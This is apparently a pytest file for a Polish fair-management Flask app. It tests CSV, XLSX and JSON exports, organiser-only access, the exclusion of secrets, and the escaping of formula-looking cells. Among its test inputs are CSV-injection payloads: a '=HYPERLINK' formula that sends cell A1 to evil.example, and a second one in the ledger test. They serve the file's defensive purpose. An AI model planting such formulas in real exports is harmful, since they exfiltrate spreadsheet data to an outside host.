"""Exports of a fair read back: CSV (as Excel in Poland reads it), XLSX (openpyxl), JSON; no
secrets in any of them; organisers only; the CLI."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import date, datetime
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook

from app.agreements.drafting import ObligationData
from app.agreements.models import Agreement
from app.core.extensions import db
from app.core.spreadsheets import csv_cell, neutralise, sheet_title
from app.door.checkin import check_in
from app.fairs.models import Fair
from app.fairs.roles import Role
from app.floor.kinds import PostKind, Unit
from app.floor.models import Post
from app.people.models import Participant
from app.people.sectors import Sector
from app.reports.exports import TABLES, export_file
from tests.agreements.conftest import _no_task_left_running, make_signed_agreement  # noqa: F401  (fixtures)

BOM = b"\xef\xbb\xbf"
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?x="&A1;"Kliknij")'


@dataclass
class Scripted:
    fair: Fair
    organiser: Participant
    people: list[Participant]
    agreement: Agreement
    posts: list[Post]


@pytest.fixture
def scripted(trading_fair: Fair, organiser: Participant, notary: Participant,
             make_participant: Callable[..., Participant], make_post: Callable[..., Post],
             make_signed_agreement: Callable[..., Agreement]) -> Scripted:  # noqa: F811
    """A small fair with Polish names, a formula-looking post, a check-in and a signed agreement."""
    ala = make_participant("Łucja", "Żółkiewska", organisation="Fundacja „Źdźbło”", sector=Sector.NGO,
                           phone="+48 600 100 200", email="lucja@example.org", password="Hasło-łucji-123")
    jan = make_participant("Grzegorz", "Brzęczyszczykiewicz", organisation="Spółdzielnia Socjalna Łąka",
                           sector=Sector.SOCIAL_COOPERATIVE, email="grzegorz@example.org")
    posts = [
        make_post(ala, title=FORMULA_TITLE, details="-2+3 i @SUMA(A1)", quantity=3, unit=Unit.HOURS),
        make_post(jan, title="@dom kultury — sala", kind=PostKind.NEED, category_key="equipment",
                  details="=2+5 godzin pracy"),
        make_post(jan, title="+ rzutnik multimedialny"),
    ]
    check_in(organiser, trading_fair.id, ala.badge_code)
    agreement = make_signed_agreement(ala, jan, obligations=[
        ObligationData(ala.organisation_id, jan.organisation_id, "Sala konferencyjna — żółta", quantity=3,
                       unit=Unit.HOURS, points=30, due_date=date(2027, 3, 14)),
        ObligationData(jan.organisation_id, ala.organisation_id, "=1+1 szkolenie", hours=4, points=40),
    ])
    return Scripted(trading_fair, organiser, [organiser, notary, ala, jan], agreement, posts)


@pytest.fixture
def as_organiser(scripted: Scripted, login: Callable[[Participant], None]) -> Scripted:
    login(scripted.organiser)
    return scripted


def read_csv(data: bytes) -> list[list[str]]:
    assert data.startswith(BOM), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def get(client: FlaskClient, path: str) -> bytes:
    r = client.get(path)
    assert r.status_code == 200, r.data[:500]
    assert r.headers["Cache-Control"] == "no-store"
    assert r.headers["Content-Disposition"].startswith("attachment; filename=")
    return r.data


# --- CSV --------------------------------------------------------------------------------------

def test_participants_csv_has_bom_semicolons_and_polish_letters(client: FlaskClient, as_organiser: Scripted) -> None:
    r = client.get("/f/tczew/admin/exports/participants.csv")
    assert r.status_code == 200
    assert r.mimetype == "text/csv"
    assert r.headers["Content-Disposition"] == 'attachment; filename="tczew-participants.csv"'
    assert b"\r\n" in r.data
    rows = read_csv(r.data)
    header, body = rows[0], rows[1:]
    assert header[:3] == ["ID", "Imię", "Nazwisko"]
    by_name = {(row[1], row[2]): dict(zip(header, row, strict=True)) for row in body}
    assert set(by_name) == {(p.first_name, p.last_name) for p in as_organiser.people}
    lucja = by_name[("Łucja", "Żółkiewska")]
    assert lucja["Organizacja"] == "Fundacja „Źdźbło”"
    assert lucja["Telefon"] == "'+48 600 100 200"  # starts with + : neutralised
    assert lucja["E-mail"] == "lucja@example.org"
    assert lucja["Potwierdzenie obecności"] != ""  # checked in
    assert by_name[("Grzegorz", "Brzęczyszczykiewicz")]["Potwierdzenie obecności"] == ""


def test_csv_cells_that_look_like_formulas_are_neutralised(client: FlaskClient, as_organiser: Scripted) -> None:
    rows = read_csv(get(client, "/f/tczew/admin/exports/posts.csv"))
    header, body = rows[0], rows[1:]
    col = {name: i for i, name in enumerate(header)}
    titles = {row[col["Tytuł"]] for row in body}
    assert titles == {"'" + FORMULA_TITLE, "'@dom kultury — sala", "'+ rzutnik multimedialny"}
    details = {row[col["Szczegóły"]] for row in body}
    assert "'-2+3 i @SUMA(A1)" in details
    assert "'=2+5 godzin pracy" in details
    for row in body:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    quantities = {row[col["Ilość"]] for row in body}
    assert "3" in quantities  # numbers stay numbers


def test_agreements_csv_has_one_row_per_obligation(client: FlaskClient, as_organiser: Scripted) -> None:
    rows = read_csv(get(client, "/f/tczew/admin/exports/agreements.csv"))
    header, body = rows[0], rows[1:]
    records = [dict(zip(header, row, strict=True)) for row in body]
    number = as_organiser.agreement.number
    assert [r["Numer umowy"] for r in records] == [number, number]
    assert {r["Stan umowy"] for r in records} == {"podpisana"}
    assert records[0]["Strony"] == "Fundacja „Źdźbło” / Spółdzielnia Socjalna Łąka"
    assert records[0]["Co"] == "Sala konferencyjna — żółta"
    assert records[0]["Termin"] == "2027-03-14"
    assert records[0]["Punkty"] == "30"
    assert records[1]["Co"] == "'=1+1 szkolenie"
    assert records[0]["Punkty umowy"] == "70"


def test_follow_up_and_check_ins_csv(client: FlaskClient, as_organiser: Scripted) -> None:
    follow = read_csv(get(client, "/f/tczew/admin/exports/follow_up.csv"))
    assert len(follow) == 3
    assert follow[1][0] == as_organiser.agreement.number
    checks = read_csv(get(client, "/f/tczew/admin/exports/check_ins.csv"))
    assert [row[2:4] for row in checks[1:]] == [["Łucja", "Żółkiewska"]]
    assert checks[1][-1] == "Grażyna Żebrowska"  # who checked her in
    orgs = read_csv(get(client, "/f/tczew/admin/exports/organisations.csv"))
    assert "Spółdzielnia Socjalna Łąka" in {row[1] for row in orgs[1:]}


@pytest.mark.parametrize("table", TABLES)
def test_every_table_neutralises_typed_text_that_starts_like_a_formula(
        table: str, client: FlaskClient, as_organiser: Scripted, make_participant: Callable[..., Participant],
        make_signed_agreement: Callable[..., Agreement]) -> None:  # noqa: F811
    """A person and an organisation named like formulas, checked in and party to an agreement:
    each table that shows them shows them neutralised, and no cell of any table starts like a
    formula unless it is a number."""
    eve = make_participant("=Ewa", "+Kowalska", organisation="@Fundacja Minus", sector=Sector.NGO,
                           phone="-600 100 200", email="ewa@example.org")
    check_in(as_organiser.organiser, as_organiser.fair.id, eve.badge_code)
    make_signed_agreement(eve, as_organiser.people[3], obligations=[
        (eve, as_organiser.people[3], "\tsala", 10), (as_organiser.people[3], eve, "-1 szkolenie", 10)])
    rows = read_csv(get(client, f"/f/tczew/admin/exports/{table}.csv"))
    cells = {cell for row in rows[1:] for cell in row}
    expected = {
        "participants": {"'=Ewa", "'+Kowalska", "'@Fundacja Minus", "'-600 100 200"},
        "organisations": {"'@Fundacja Minus"},
        "posts": {"'" + FORMULA_TITLE},
        "agreements": {"'-1 szkolenie"},
        "check_ins": {"'=Ewa", "'+Kowalska", "'@Fundacja Minus"},
        "follow_up": {"'-1 szkolenie"},
    }[table]
    assert expected <= cells, sorted(cells)
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").isdigit(), cell


def test_every_table_downloads_as_csv_and_xlsx_in_english_too(client: FlaskClient, as_organiser: Scripted) -> None:
    client.get("/lang/en")
    rows = read_csv(get(client, "/f/tczew/admin/exports/participants.csv"))
    assert rows[0][:3] == ["ID", "First name", "Last name"]
    for table in TABLES:
        assert read_csv(get(client, f"/f/tczew/admin/exports/{table}.csv"))[0]
        book = load_workbook(io.BytesIO(get(client, f"/f/tczew/admin/exports/{table}.xlsx")))
        assert len(book.sheetnames) == 1


def test_unknown_table_is_404(client: FlaskClient, as_organiser: Scripted) -> None:
    assert client.get("/f/tczew/admin/exports/secrets.csv").status_code == 404
    assert client.get("/f/tczew/admin/exports/fair.csv").status_code == 404


# --- XLSX -------------------------------------------------------------------------------------

def test_full_workbook_has_a_typed_sheet_per_table(client: FlaskClient, as_organiser: Scripted) -> None:
    r = client.get("/f/tczew/admin/exports/fair.xlsx")
    assert r.status_code == 200
    assert r.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = load_workbook(io.BytesIO(r.data))
    assert book.sheetnames == ["Uczestnicy", "Organizacje", "Oferty i potrzeby", "Umowy", "Obecność",
                               "Realizacja umów"]
    for ws in book.worksheets:
        assert ws.freeze_panes == "A2"
        assert all(cell.font.bold for cell in ws[1])
        assert ws.column_dimensions["A"].width >= 6

    agreements = book["Umowy"]
    header = [c.value for c in agreements[1]]
    first = dict(zip(header, [c.value for c in agreements[2]], strict=True))
    assert first["Numer umowy"] == as_organiser.agreement.number
    assert first["Punkty"] == 30 and isinstance(first["Punkty"], int)
    assert first["Termin"] == datetime(2027, 3, 14)  # a date cell (openpyxl reads it as datetime)
    assert agreements.cell(2, header.index("Termin") + 1).is_date
    assert agreements.cell(2, header.index("Termin") + 1).number_format == "yyyy-mm-dd"
    assert first["Podpisana na papierze"] is False
    second = [c for c in agreements[3]]
    what = second[header.index("Co")]
    assert what.value == "'=1+1 szkolenie" and what.data_type == "s"

    people = book["Uczestnicy"]
    header = [c.value for c in people[1]]
    lucja = next(r for r in people.iter_rows(min_row=2, values_only=True) if r[1] == "Łucja")
    assert lucja[header.index("Telefon")] == "+48 600 100 200"  # typed text: no formula, kept as is
    assert isinstance(lucja[header.index("Potwierdzenie obecności")], datetime)

    posts = book["Oferty i potrzeby"]
    cells = [c for row in posts.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert "'" + FORMULA_TITLE in {c.value for c in cells}


def test_single_table_xlsx(client: FlaskClient, as_organiser: Scripted) -> None:
    book = load_workbook(io.BytesIO(get(client, "/f/tczew/admin/exports/check_ins.xlsx")))
    assert book.sheetnames == ["Obecność"]
    ws = book.active
    assert ws is not None
    assert ws.max_row == 2
    assert isinstance(ws.cell(2, 1).value, datetime)
    assert ws.cell(2, 2).value == as_organiser.people[2].id


# --- JSON -------------------------------------------------------------------------------------

def test_json_dump_of_the_whole_fair(client: FlaskClient, as_organiser: Scripted) -> None:
    r = client.get("/f/tczew/admin/exports/fair.json")
    assert r.status_code == 200 and r.mimetype == "application/json"
    doc = json.loads(r.data)
    assert doc["format"] == "gielda-fair" and doc["version"] == 1
    assert set(doc) == {"format", "version", "exported_at", "fair", "categories", "organisations",
                        "participants", "posts", "agreements", "check_ins", "announcements", "reminders"}
    assert doc["fair"]["slug"] == "tczew" and doc["fair"]["state"] == "trading"
    assert doc["fair"]["name"] == "Giełda Zasobów Tczew"
    assert "display_token" not in doc["fair"]
    assert "Łucja" in r.data.decode("utf-8")  # not \u-escaped
    assert {p["last_name"] for p in doc["participants"]} >= {"Żółkiewska", "Brzęczyszczykiewicz"}
    assert len(doc["posts"]) == 3 and doc["posts"][0]["title"] == FORMULA_TITLE  # JSON: data as it is
    (agreement,) = doc["agreements"]
    assert agreement["number"] == as_organiser.agreement.number
    assert len(agreement["parties"]) == 2
    assert [o["points"] for o in agreement["obligations"]] == [30, 40]
    assert agreement["obligations"][0]["due_date"] == "2027-03-14"
    assert len(agreement["signatures"]) == 2
    assert agreement["signed_at"].endswith("Z")
    assert len(doc["check_ins"]) == 1
    assert len(doc["categories"]) >= 10


# --- secrets ----------------------------------------------------------------------------------

def _all_keys(value: Any) -> Iterator[str]:
    if isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from _all_keys(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _all_keys(inner)


def _all_scalars(value: Any) -> Iterator[Any]:
    if isinstance(value, dict):
        for inner in value.values():
            yield from _all_scalars(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _all_scalars(inner)
    else:
        yield value


def test_no_export_contains_a_secret(client: FlaskClient, as_organiser: Scripted, app: Flask) -> None:
    people = [db.session.get_one(Participant, p.id) for p in as_organiser.people]
    assert all(p.password_hash for p in people if p.role != Role.PARTICIPANT or p.first_name == "Łucja")
    secrets = [s for p in people for s in (p.login_secret, p.password_hash) if s]
    pins = {p.pin for p in people}
    fair = db.session.get_one(Fair, as_organiser.fair.id)
    secrets.append(fair.display_token)

    downloads = [f"/f/tczew/admin/exports/{t}.{ext}" for t in TABLES for ext in ("csv", "xlsx")]
    downloads += ["/f/tczew/admin/exports/fair.xlsx", "/f/tczew/admin/exports/fair.json"]
    for path in downloads:
        data = get(client, path)
        if path.endswith(".csv"):
            cells = [c for row in read_csv(data) for c in row]
        elif path.endswith(".xlsx"):
            book = load_workbook(io.BytesIO(data))
            cells = [str(c) for ws in book.worksheets for row in ws.iter_rows(values_only=True) for c in row
                     if c is not None]
        else:
            doc = json.loads(data)
            assert not {"login_secret", "pin", "password_hash", "display_token", "pdf"} & set(_all_keys(doc))
            cells = [str(v) for v in _all_scalars(doc) if v is not None]
        text = "\n".join(cells)
        for secret in secrets:
            assert secret not in text, f"{path} leaks a secret"
        assert not pins & {c.lstrip("'") for c in cells}, f"{path} holds a PIN"
        assert "/login/" not in text


# --- access -----------------------------------------------------------------------------------

def test_only_organisers_of_the_fair_get_exports(client: FlaskClient, scripted: Scripted,
                                                 login: Callable[[Participant], None],
                                                 make_fair: Callable[..., Fair],
                                                 make_participant: Callable[..., Participant]) -> None:
    paths = ["/f/tczew/admin/exports", "/f/tczew/admin/exports/participants.csv",
             "/f/tczew/admin/exports/posts.xlsx", "/f/tczew/admin/exports/fair.xlsx",
             "/f/tczew/admin/exports/fair.json"]
    for path in paths:  # nobody logged in: to the login page
        r = client.get(path)
        assert r.status_code == 302 and "/f/tczew/login" in r.headers["Location"]
    login(scripted.people[2])  # a participant
    for path in paths:
        assert client.get(path).status_code == 403
    login(scripted.people[1])  # the notary
    for path in paths:
        assert client.get(path).status_code == 403
    other = make_fair(slug="gdansk")
    login(make_participant("Ewa", "Ślęzak", role=Role.ORGANISER, fair_id=other.id))  # another fair's organiser
    for path in paths:
        assert client.get(path).status_code == 403


def test_exports_page_lists_the_downloads(client: FlaskClient, as_organiser: Scripted) -> None:
    r = client.get("/f/tczew/admin/exports")
    assert r.status_code == 200
    page = r.data.decode()
    for table in TABLES:
        assert f'href="/f/tczew/admin/exports/{table}.csv"' in page
        assert f'href="/f/tczew/admin/exports/{table}.xlsx"' in page
    assert 'href="/f/tczew/admin/exports/fair.xlsx"' in page
    assert 'href="/f/tczew/admin/exports/fair.json"' in page
    assert "średnikami" in page  # says the CSV files are ;-separated


def test_follow_up_page_links_to_the_exports(client: FlaskClient, as_organiser: Scripted) -> None:
    page = client.get("/f/tczew/admin/follow-up").data.decode()
    assert 'href="/f/tczew/admin/exports"' in page


# --- CLI --------------------------------------------------------------------------------------

def test_cli_writes_each_format(runner: Any, scripted: Scripted, tmp_path: Path) -> None:
    out = tmp_path / "uczestnicy.csv"
    result = runner.invoke(args=["fair", "export", "tczew", "--format", "csv", "--table", "participants",
                                 "--output", str(out)])
    assert result.exit_code == 0, result.output
    rows = read_csv(out.read_bytes())
    assert ("Łucja", "Żółkiewska") in {(r[1], r[2]) for r in rows}

    out = tmp_path / "fair.xlsx"
    result = runner.invoke(args=["fair", "export", "tczew", "--format", "xlsx", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert len(load_workbook(out).sheetnames) == len(TABLES)

    out = tmp_path / "fair.json"
    result = runner.invoke(args=["fair", "export", "tczew", "--format", "json", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert json.loads(out.read_text("utf-8"))["fair"]["slug"] == "tczew"


def test_cli_refuses_what_does_not_exist(runner: Any, scripted: Scripted, tmp_path: Path) -> None:
    out = tmp_path / "x"
    result = runner.invoke(args=["fair", "export", "tczew", "--format", "csv", "-o", str(out)])
    assert result.exit_code != 0 and "one table" in result.output
    result = runner.invoke(args=["fair", "export", "nowhere", "--format", "json", "-o", str(out)])
    assert result.exit_code != 0 and "no fair" in result.output
    result = runner.invoke(args=["fair", "export", "tczew", "--format", "json", "--table", "posts", "-o", str(out)])
    assert result.exit_code != 0
    assert not out.exists()


def test_cli_table_choices_are_the_export_tables(app: Flask) -> None:
    from app.reports.cli import export_command

    option = next(p for p in export_command.params if p.name == "table")
    assert tuple(option.type.choices) == TABLES  # type: ignore[attr-defined]


# --- the spreadsheet helpers --------------------------------------------------------------------

@pytest.mark.parametrize("text", ["=1+1", "+48", "-2", "@SUM(A1)", "\tx", "\rx"])
def test_neutralise_prefixes_formula_starts(text: str) -> None:
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Łódź", "", "1+1", " =x", "'=x"])
def test_neutralise_leaves_plain_text(text: str) -> None:
    assert neutralise(text) == text


def test_csv_cell_types() -> None:
    assert csv_cell(-5) == "-5"  # a number, not a formula
    assert csv_cell(None) == ""
    assert csv_cell(True, "tak", "nie") == "tak"
    assert csv_cell(date(2027, 3, 14)) == "2027-03-14"
    from datetime import UTC

    assert csv_cell(datetime(2027, 3, 14, 9, 5, tzinfo=UTC)) == "2027-03-14 10:05"  # Polish time (CET)


def test_sheet_titles_are_valid_and_unique() -> None:
    taken: set[str] = set()
    assert sheet_title("Umowy: 2027/03?", taken) == "Umowy- 2027-03-"
    long = "x" * 40
    assert sheet_title(long, taken) == "x" * 31
    assert sheet_title(long, taken) == "x" * 27 + " (2)"


def test_export_file_names(app: Flask, fair: Fair) -> None:
    assert export_file(fair, "csv", "check_ins").filename == "tczew-check-ins.csv"
    assert export_file(fair, "xlsx").filename == "tczew-fair.xlsx"
    assert export_file(fair, "json").filename == "tczew-fair.json"
    with pytest.raises(ValueError):
        export_file(fair, "pdf")


def test_ledger_statement_csv_neutralises_typed_text(app: Flask) -> None:
    """The points statement CSV (app/ledger/exports.py) shares the neutralising helper."""
    from datetime import UTC

    from app.ledger.exports import statement_csv
    from app.ledger.models import EntryKind
    from app.ledger.statements import Statement, StatementLine

    line = StatementLine(entry_id=1, at=datetime(2027, 3, 14, 9, tzinfo=UTC), kind=next(iter(EntryKind)),
                         memo="=HYPERLINK(\"http://evil.example\")", counterparties=("@Fundacja Ćma",),
                         points=-45, balance=-45, actor="", source=None, reverses_id=None, reversed_by_id=None)
    rows = read_csv(statement_csv(Statement(account=None, since=None, until=None, opening=0, closing=-45,  # type: ignore[arg-type]
                                            lines=(line,))).encode("utf-8"))
    row = next(r for r in rows if r[1] == "1")
    assert row[3] == "'=HYPERLINK(\"http://evil.example\")" and row[4] == "'@Fundacja Ćma"
    assert row[5] == "-45"  # numbers are not touched
